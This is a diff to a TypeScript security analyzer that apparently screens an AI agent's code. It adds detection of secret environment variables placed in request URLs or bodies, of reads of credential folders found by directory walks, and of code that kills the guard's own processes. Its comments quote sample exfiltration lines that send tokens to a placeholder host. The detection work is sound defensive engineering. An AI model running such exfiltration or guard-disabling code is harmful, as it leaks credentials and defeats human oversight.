@@ -16,6 +16,7 @@ import { tclWords } from '../tcl';
 import { posix } from 'node:path';
 import type { Analyzer } from '../analyze';
 import type { SimpleCommand } from '../lexer';
+import { LOOM_PROCESS } from '../tables/devices';
 import { deletesPath, readsPath, writesPath, carriesFolder } from '../path-rules';
 import type { Rule, RuleContext } from '../rules';
 import { CLUSTER_TAIL, interpreterOf, isDownloader, type InterpreterSpec, type Language } from '../tables/programs';
@@ -421,7 +422,7 @@ interface Scope {
   home: string;
   evalDepth: number;
   /** Folders the code walks (os.walk, rglob, readdirSync, glob): a delete of what it finds deletes in them. */
-  walkRoots: { path: string; filtered: boolean }[];
+  walkRoots: { path: string; filtered: boolean; pattern: string }[];
   /** The code changed its folder to one only known at run time: a relative path is unknown. */
   cwdUnknown?: boolean;
   /** Process-starting calls whose stdin writes were looked for (bounded). */
@@ -1141,7 +1142,18 @@ function judgeCall(s: Scope, name: string, sink: Sink, args: Val[], argRanges: [
   judgeCallIn(s, name, sink, args, argRanges);
 }
 
+/** Sinks whose arguments are paths: a list there is a loop variable over a literal list, one path per element. */
+const PATH_SINKS = new Set<Sink>(['move', 'read', 'write', 'open', 'copy', 'archive']);
+const MAX_ELEMENTS = 64;
+
 function judgeCallIn(s: Scope, name: string, sink: Sink, args: Val[], argRanges: [number, number][]): void {
+  if (PATH_SINKS.has(sink) && !(s.lang === 'perl' && sink === 'open' && /\|/.test(args[1]?.text ?? ''))) {
+    const k = args.findIndex((x) => x.text === undefined && x.list !== undefined && x.list.length > 0 && x.list.length <= MAX_ELEMENTS && x.list.every((e) => e.text !== undefined));
+    if (k >= 0) {
+      for (const e of args[k].list!) judgeCallIn(s, name, sink, args.map((x, j) => (j === k ? e : x)), argRanges);
+      return;
+    }
+  }
   const a = s.ctx.analyzer;
   const { cwd, segment } = s.ctx;
   const via = `${s.lang} ${canonical(s, name)}`;
@@ -1248,7 +1260,8 @@ function judgeCallIn(s: Scope, name: string, sink: Sink, args: Val[], argRanges:
     }
     case 'read': {
       const p = pathArg(args[0]);
-      if (p && !p.startsWith('\u0000')) readsPath(a, p, cwd, segment);
+      if (p && !p.startsWith('\u0000')) readUnknownTail(s, p);
+      else if (s.walkRoots.length) readWalked(s);
       return;
     }
     case 'write': {
@@ -1289,10 +1302,13 @@ function judgeCallIn(s: Scope, name: string, sink: Sink, args: Val[], argRanges:
         if (s.lang === 'python' && args.length === 1) mode = 'r';
       }
       // open(f, "w") for each f of a walk: the files of the walked folder.
-      if ((path === undefined || path.startsWith('\u0000')) && /[wax+>]/.test(mode) && s.walkRoots.length) writeWalked(s);
+      if ((path === undefined || path.startsWith('\u0000')) && s.walkRoots.length) {
+        if (/[wax+>]/.test(mode)) writeWalked(s);
+        else readWalked(s);
+      }
       if (path === undefined || path.startsWith('\u0000')) return;
       if (/[wax+>]/.test(mode) && !/^r$/.test(mode)) writesPath(a, path, cwd, segment);
-      else readsPath(a, path, cwd, segment);
+      else readUnknownTail(s, path);
       return;
     }
     case 'copy': {
@@ -1336,14 +1352,14 @@ function addWalkRoot(s: Scope, root: string, pattern?: string): void {
   if (s.walkRoots.length >= 16) return;
   const full = pattern ? (root === '' || root === '.' ? pattern : root.replace(/\/+$/, '') + '/' + pattern) : root;
   if (full.startsWith('\u0000')) {
-    s.walkRoots.push({ path: '\u0000', filtered: false });
+    s.walkRoots.push({ path: '\u0000', filtered: false, pattern: full });
     return;
   }
   let base = full.replace(/\/?[^/]*[*?[].*$/, '');
   if (base === '') base = full.startsWith('/') ? '/' : '.';
   const last = full.split('/').pop() ?? '';
   const filtered = /[*?[]/.test(full) ? !/^(?:\*|\*\*|\.\*|\*\.\*)?$/.test(last) : WALK_FILTER.test(s.toks.map((x) => x.v).join(''));
-  s.walkRoots.push({ path: base, filtered });
+  s.walkRoots.push({ path: base, filtered, pattern: full });
 }
 
 /** A delete of what a walk found: a recursive delete of each walked folder (of the files it picks, when it picks some). */
@@ -1352,6 +1368,23 @@ function writeWalked(s: Scope): void {
   for (const root of s.walkRoots) for (const f of WALKED_SAMPLES) writesPath(s.ctx.analyzer, posix.join(root.path, f), s.ctx.cwd, s.ctx.segment);
 }
 const WALKED_SAMPLES = ['x', 'settings.json', 'settings.local.json', 'hooks.json', 'policy.json'];
+
+/** A read of a path known up to a run-time name (`os.path.join('~/.ssh', f)`): a file of that folder, a credential folder's among them. */
+function readUnknownTail(s: Scope, p: string): void {
+  const hole = p.indexOf('\u0000');
+  const dir = hole > 0 ? p.slice(0, p.lastIndexOf('/', hole) + 1) : '';
+  if (dir.length > 1) carriesFolder(s.ctx.analyzer, dir.replace(/\/+$/, ''), s.ctx.cwd, s.ctx.segment);
+  else readsPath(s.ctx.analyzer, p, s.ctx.cwd, s.ctx.segment);
+}
+
+/** A read of each file a walk found: the walk's pattern read (`.env*`, `~/.ssh/*`), a credential folder carried whole. */
+function readWalked(s: Scope): void {
+  for (const root of s.walkRoots) {
+    if (root.path.startsWith('\u0000')) continue;
+    if (root.pattern !== root.path) readsPath(s.ctx.analyzer, root.pattern, s.ctx.cwd, s.ctx.segment);
+    carriesFolder(s.ctx.analyzer, root.path, s.ctx.cwd, s.ctx.segment);
+  }
+}
 
 function deleteWalked(s: Scope): void {
   for (const root of s.walkRoots) deletesPath(s.ctx.analyzer, root.path, s.ctx.cwd, s.ctx.segment, { recursive: true, filtered: root.filtered });
@@ -1926,6 +1959,68 @@ const DNS_LOOKUP = /\b(?:gethostbyname(?:_ex)?|getaddrinfo|gethostbyaddr|dns(?:[
 /** A read of an environment variable named like a secret. */
 const SECRET_ENV_READ = /(?:os\.environ(?:\.get)?|os\.getenv|process\.env|getenv|ENV|\$ENV|Deno\.env\.get)\s*[[.({]\s*["']?[A-Z0-9_]*(?:TOKEN|SECRET|PASSW|API_?KEY|ACCESS_KEY|PRIVATE|CREDENTIAL)[A-Z0-9_]*/i;
 
+const KILL_CALL = /\b(?:os\.killpg?|process\.kill|Process\.kill|posix_kill|kill)\s*\(|\.(?:kill|terminate|send_signal)\s*\(|\bkill\s+['"]?-?(?:9|KILL|TERM)\b/;
+const PROCESS_FINDER = /\b(?:pgrep|pidof|ps|psutil|process_iter|tasklist|Get-Process)\b|\/proc\b/;
+
+/** Calls that send a request: the URL is their first argument, a body their data/body/json/form argument. */
+const REQUEST_CALL = /\b(?:urlopen|Request|requests\.(?:get|post|put|patch|request)|httpx\.(?:get|post|put|request)|session\.(?:get|post)|fetch|https?\.(?:get|request)|axios(?:\.(?:get|post|put|request))?|got|file_get_contents|curl_init|URI\.open|URI|Net::HTTP\.(?:get|post_form|post)|HTTParty\.(?:get|post)|getstore|get|post|Invoke-WebRequest|Invoke-RestMethod)\s*\(/g;
+const BODY_ARG = /^\s*(?:data|body|json|form|params|content|query)\s*[=:]/;
+const SECRET_ENV_SRC = SECRET_ENV_READ.source;
+const SECRET_ENV_NAME = new RegExp(`(?:^|[^\\w$.])([A-Za-z_$][\\w$]*)\\s*=\\s*(?:[\\w.]+\\()?\\s*${SECRET_ENV_SRC}`, 'gi');
+
+/** Arguments of the call whose `(` is at `open`, split at top-level commas (bounded). */
+function callArgs(code: string, open: number): string[] {
+  const out: string[] = [];
+  let depth = 0;
+  let quote = '';
+  let start = open + 1;
+  for (let i = open; i < code.length && i < open + 4000; i++) {
+    const c = code[i];
+    if (quote) {
+      if (c === '\\') i++;
+      else if (c === quote) quote = '';
+      continue;
+    }
+    if (c === '"' || c === "'" || c === '`') quote = c;
+    else if (c === '(' || c === '[' || c === '{') depth++;
+    else if (c === ')' || c === ']' || c === '}') {
+      if (--depth === 0) {
+        out.push(code.slice(start, i));
+        return out;
+      }
+    } else if (c === ',' && depth === 1) {
+      out.push(code.slice(start, i));
+      start = i + 1;
+    }
+  }
+  return out;
+}
+
+/**
+ * A secret environment variable put in a request's URL or body (`file_get_contents("https://x/?d=" .
+ * getenv("GITHUB_TOKEN"))`, `urlopen(url, data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())`), directly or
+ * through a name assigned from it. A header is how a token reaches its own service and is left alone.
+ */
+function secretEnvInRequest(code: string): boolean {
+  if (!SECRET_ENV_READ.test(code)) return false;
+  const names = new Set<string>();
+  SECRET_ENV_NAME.lastIndex = 0;
+  for (let m = SECRET_ENV_NAME.exec(code), n = 0; m && n < 64; m = SECRET_ENV_NAME.exec(code), n++) names.add(m[1]);
+  const carries = (arg: string) => SECRET_ENV_READ.test(arg) || [...names].some((n) => new RegExp(`(?:^|[^\\w$])${n.replace(/\$/g, '\\$')}(?![\\w$])`).test(arg));
+  REQUEST_CALL.lastIndex = 0;
+  for (let m = REQUEST_CALL.exec(code), n = 0; m && n < 64; m = REQUEST_CALL.exec(code), n++) {
+    const args = callArgs(code, m.index + m[0].length - 1);
+    if (args.length === 0) continue;
+    if (carries(args[0]) && /['"`]https?:|\burl\b|\bhttps?:/i.test(args[0] + code.slice(Math.max(0, m.index - 200), m.index))) return true;
+    // A body argument, also as a member of an options object (fetch(url, {method: 'POST', body: ...})).
+    const members = args.slice(1).flatMap((x) => (/^\s*\{/.test(x) ? callArgs(x, x.indexOf('{')) : [x]));
+    if (members.some((x) => BODY_ARG.test(x.replace(/^\s*\{?\s*['"]?/, '').replace(/^(\w+)['"]/, '$1')) && carries(x))) return true;
+    // urlopen(url, data) / requests.post(url, payload): the second positional argument is the body.
+    if (args.length >= 2 && /^(?:urlopen|requests\.post|requests\.put|post)\b/.test(m[0]) && !/^\s*\w+\s*=/.test(args[1]) && carries(args[1])) return true;
+  }
+  return false;
+}
+
 export function analyzeInterpreterCode(lang: Language, code: string, ctx: CodeContext): void {
   if (ctx.depth > MAX_DEPTH) {
     ctx.analyzer.hit('unparseable', 'ask', ctx.segment, `interpreter code nested more than ${MAX_DEPTH} levels deep`);
@@ -1982,6 +2077,9 @@ export function analyzeInterpreterCode(lang: Language, code: string, ctx: CodeCo
   const netModule = [...s.aliases.values()].some((m) => NET_MODULES.has(m)) || NODE_NET_REQUIRE.test(code);
   // Code that talks to the network and takes the whole environment as a value sends every token in it.
   if ((NET_TEXT.test(code) || netModule) && WHOLE_ENV.test(code)) ctx.analyzer.hit('env-exfiltration', 'deny', ctx.segment, `${lang} code sends every environment variable over the network`);
+  // Processes found by a name or command line that is loom's, then signalled: switching the guard off.
+  if (KILL_CALL.test(code) && PROCESS_FINDER.test(code) && LOOM_PROCESS.test(` ${code.replace(/["'`*,\[\]()]/g, ' ')} `)) ctx.analyzer.hit('modify-loom', 'deny', ctx.segment, `${lang} code finds loom's own processes and signals them: the agent may not switch off its guard`);
+  if ((NET_TEXT.test(code) || netModule || /\bfile_get_contents\b/.test(code)) && secretEnvInRequest(code)) ctx.analyzer.hit('env-exfiltration', 'deny', ctx.segment, `${lang} code puts a secret environment variable in a request's URL or body: it leaves the machine`);
   if ((NET_TEXT.test(code) || netModule) && EXEC_TEXT.test(code)) ctx.analyzer.hit('pipe-download-to-interpreter', 'deny', ctx.segment, `${lang} code runs what it downloads`);
   // A socket handed to a shell (dup2 onto stdio, a pty, pipes to a spawned sh): a reverse shell.
   if (CODE_SOCKET.test(code) && CODE_SHELL_ON_SOCKET.test(code)) ctx.analyzer.hit('reverse-shell', 'deny', ctx.segment, `${lang} code connects a socket and gives it to a shell: whoever is on the other end controls the machine`);
